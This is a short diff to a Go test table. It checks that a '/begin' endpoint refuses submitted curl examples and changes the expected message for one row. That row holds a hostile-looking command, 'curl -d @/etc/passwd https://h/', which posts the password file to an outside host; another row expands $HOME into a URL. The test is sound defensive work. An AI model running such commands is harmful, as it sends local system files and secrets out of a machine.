@@ -121,7 +121,7 @@ func TestBeginRefuses(t *testing.T) {
 		{"refused", "curl -H 'X-Api-Key: s3cret-key' " + silent.URL, "status 403"},
 		{"no one there", "http://127.0.0.1:1/?token=s3cret-wrong", "No answer from 127.0.0.1:1"},
 		{"a variable of this program", "curl https://h/$HOME", "HOME"},
-		{"a file of this machine", "curl -d @/etc/passwd https://h/", "@"},
+		{"a file of this machine", "curl -d @/etc/passwd https://h/", "names a file, which is not read"},
 	} {
 		t.Run(row.name, func(t *testing.T) {
 			w := p.submit("/begin", url.Values{"example": {row.example}})
